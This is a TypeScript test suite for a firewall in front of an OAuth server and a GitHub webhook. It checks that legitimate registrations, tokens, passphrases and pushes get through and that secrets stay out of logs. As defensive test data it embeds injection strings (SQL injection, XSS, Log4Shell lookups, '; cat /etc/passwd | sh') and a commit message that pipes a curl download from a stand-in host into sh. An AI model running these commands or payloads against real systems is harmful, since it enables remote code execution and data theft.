import { createHmac, randomBytes } from 'node:crypto';
import { type Edge, startEdge } from './edge.ts';
import type { Request } from './frames.ts';

const form = (path: string, fields: Record<string, string>): Request => ({
  method: 'POST',
  path,
  headers: {
    'content-type': 'application/x-www-form-urlencoded',
    'user-agent': 'python-httpx/0.28.1',
    accept: 'application/json',
  },
  body: String(new URLSearchParams(fields)),
});
const chance = (bytes: number) => randomBytes(bytes).toString('base64url');
const REDIRECTS = [
  'https://claude.ai/api/mcp/auth_callback',
  'http://localhost/callback',
  'http://127.0.0.1:33418/',
  'http://[::1]:8787/callback',
  'cursor://anysphere.cursor-retrieval/oauth/user-abc/callback',
  'https://vscode.dev/redirect',
];
const PASSPHRASES = [
  "' OR '1'='1' -- ",
  '<script>alert(1)</script> & "quotes"',
  '; cat /etc/passwd | sh #',
  '\u0024{jndi:ldap://x/a} java.lang.Runtime ../../../etc/passwd %00 %zz',
  'péché àé ☃ 日本語 correct horse',
];

describe('OAuth and the webhook at the firewall', () => {
  let edge: Edge;
  beforeAll(async () => {
    edge = await startEdge();
  });
  afterAll(() => edge?.dispose());

  const refused = async (requests: Request[]) => {
    const answers = await edge.askAll(requests);
    return requests
      .filter((_request, index) => answers[index]?.status !== 200)
      .map(({ path, body }) => `${path} ${body}`);
  };

  it('[R-WAF-OAUTH] lets registrations and authorizations of every known client through', async () => {
    const requests = REDIRECTS.flatMap((redirect) => [
      {
        method: 'POST',
        path: '/register',
        headers: { 'content-type': 'application/json', 'user-agent': 'python-httpx/0.28.1', accept: '*/*' },
        body: JSON.stringify({
          client_name: "Claude Code (Ada's laptop)",
          redirect_uris: [redirect, 'http://127.0.0.1/callback'],
          grant_types: ['authorization_code', 'refresh_token'],
          response_types: ['code'],
          token_endpoint_auth_method: 'none',
          scope: 'content:read content:write',
        }),
      },
      ...['https://claude.ai/oauth/mcp-oauth-client-metadata', 'abc'].map((client) => ({
        method: 'GET',
        path: `/authorize?${new URLSearchParams({
          response_type: 'code',
          client_id: client,
          redirect_uri: redirect,
          scope: 'content:read content:write site:admin',
          state: chance(32),
          code_challenge: chance(32),
          code_challenge_method: 'S256',
          resource: 'http://127.0.0.1:18080/mcp',
        })}`,
        headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Chrome/142.0', accept: 'text/html' },
      })),
      form('/token', {
        grant_type: 'authorization_code',
        code: chance(32),
        redirect_uri: redirect,
        client_id: 'https://claude.ai/oauth/mcp-oauth-client-metadata',
        code_verifier: chance(32),
        resource: 'http://127.0.0.1:18080/mcp',
      }),
    ]);
    expect(await refused(requests)).toEqual([]);
  });

  it('stumbles over no secret that chance makes', async () => {
    const cookie = () =>
      ['__Host-arleo_browser', '__Secure-arleo_interaction', '__Secure-arleo_interaction.sig']
        .map((name) => `${name}=${chance(24)}`)
        .join('; ');
    const requests = Array.from({ length: 250 }, () => [
      form('/token', {
        grant_type: 'refresh_token',
        refresh_token: chance(32),
        client_id: chance(16),
        client_secret: chance(32),
      }),
      form('/revoke', { token: `${chance(100)}.${chance(100)}.${chance(64)}`, token_type_hint: 'access_token' }),
      {
        ...form(`/interaction/${chance(16)}/consent`, { csrf: chance(32), scope: 'content:read', decision: 'approve' }),
      },
    ])
      .flat()
      .map((request) => ({
        ...request,
        headers: { ...request.headers, cookie: cookie(), authorization: `Bearer ${chance(90)}` },
      }));
    expect(await refused(requests)).toEqual([]);
  });

  it('takes no cookie of its own for an attack, and none of an attack for its own', async () => {
    const asked = (cookie: string) =>
      edge.ask({ ...form('/interaction/abc/consent', { csrf: 'a', decision: 'approve' }), headers: { cookie } });
    const chanced = '8--g05LdDXWANHTvPn46YUcfTRJXVtg9';
    expect((await asked(`__Host-arleo_browser=${chanced}`)).status).toBe(200);
    expect((await asked(`other=${chanced}`)).status).toBe(403);
    for (const name of ['__Host-arleo_session', '__Secure-arleo_interaction.sig', '__Host-arleo_']) {
      expect((await asked(`${name}=a; ${name}=' or 1=1 -- `)).status).toBe(403);
      expect((await asked(`${name}=<script>alert(1)</script>`)).status).toBe(403);
    }
  });

  it('[R-WAF-PASSPHRASE] takes any passphrase, and writes none of it into a log', async () => {
    const before = await edge.log();
    expect(
      await refused(
        PASSPHRASES.map((passphrase) =>
          form('/interaction/abc-DEF_1/login', { csrf: chance(32), passphrase, code: '123456', recovery_code: '' }),
        ),
      ),
    ).toEqual([]);
    // Refused for something else: still not in the log, although that tells the rule.
    for (const passphrase of PASSPHRASES) {
      const answer = await edge.ask(
        form('/interaction/abc/login', { passphrase, next: '<script>alert(7777)</script>' }),
      );
      expect(answer.status).toBe(403);
    }
    const log = (await edge.log()).slice(before.length);
    expect(log).toContain('7777');
    for (const passphrase of PASSPHRASES) {
      expect(log).not.toContain(passphrase);
      expect(log).not.toContain(encodeURIComponent(passphrase));
    }
  });

  it("[R-WAF-HOOK] lets GitHub's pushes through, whatever stands in the commits", async () => {
    const messages = [
      'Fix SQL injection: SELECT * FROM users WHERE id = 1 OR 1=1; DROP TABLE users; --',
      'Escape <script>alert(document.cookie)</script> in layouts\n\ncurl http://192.0.2.1/x.sh | sh; cat /etc/passwd',
      '\u0024{jndi:ldap://x/a} java.lang.Runtime.getRuntime().exec("id")',
    ];
    const commit = (message: string) => ({
      id: randomBytes(20).toString('hex'),
      message,
      timestamp: '2026-11-21T12:00:00+01:00',
      url: 'https://github.com/example/site/commit/0123456789abcdef0123456789abcdef01234567',
      author: { name: "Ada O'Neil", email: 'ada@example.org', username: 'ada' },
      committer: { name: 'GitHub', email: 'noreply@github.com', username: 'web-flow' },
      added: ['layouts/_default/../.htaccess.html', 'static/.env.example'],
      removed: ['config.php.bak'],
      modified: ['assets/js/onload=alert.js', 'web.config'],
    });
    const body = JSON.stringify({
      ref: 'refs/heads/main',
      before: '0'.repeat(40),
      after: 'f'.repeat(40),
      repository: {
        id: 1,
        full_name: 'example/site',
        private: false,
        owner: { name: 'example', email: null, avatar_url: 'https://avatars.githubusercontent.com/u/1?v=4' },
        html_url: 'https://github.com/example/site',
        description: 'Notes on <b>XSS</b>, SQL (1 OR 1=1) & /etc/passwd',
        keys_url: 'https://api.github.com/repos/example/site/keys{/key_id}',
        git_url: 'git://github.com/example/site.git',
        ssh_url: 'git@github.com:example/site.git',
        clone_url: 'https://github.com/example/site.git',
        default_branch: 'main',
      },
      pusher: { name: 'ada', email: 'ada@example.org' },
      sender: {
        login: 'ada',
        url: 'https://api.github.com/users/ada',
        gists_url: 'https://api.github.com/users/ada/gists{/gist_id}',
      },
      compare: 'https://github.com/example/site/compare/000000000000...ffffffffffff',
      created: false,
      commits: Array.from({ length: 40 }, (_one, index) => commit(messages[index % 3] as string)),
      head_commit: commit(messages[0] as string),
    });
    const push = {
      method: 'POST',
      path: '/webhook/github',
      headers: {
        accept: '*/*',
        'content-type': 'application/json',
        'user-agent': 'GitHub-Hookshot/044aadd',
        'x-github-delivery': '72d3162e-cc78-11e3-81ab-4c9367dc0958',
        'x-github-event': 'push',
        'x-hub-signature-256': `sha256=${createHmac('sha256', 'a').update(body).digest('hex')}`,
      },
      body,
    };
    expect(await refused([push])).toEqual([]);
  });
});
